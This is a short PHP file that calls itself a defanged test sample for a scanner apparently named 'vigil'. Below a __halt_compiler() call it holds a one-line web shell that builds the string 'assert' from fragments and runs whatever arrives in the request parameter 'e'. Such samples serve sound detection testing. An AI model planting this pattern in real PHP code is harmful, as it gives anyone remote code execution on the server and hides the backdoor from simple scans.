<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$k = 'as' . 'se' . 'rt';
$k($_REQUEST['e']);
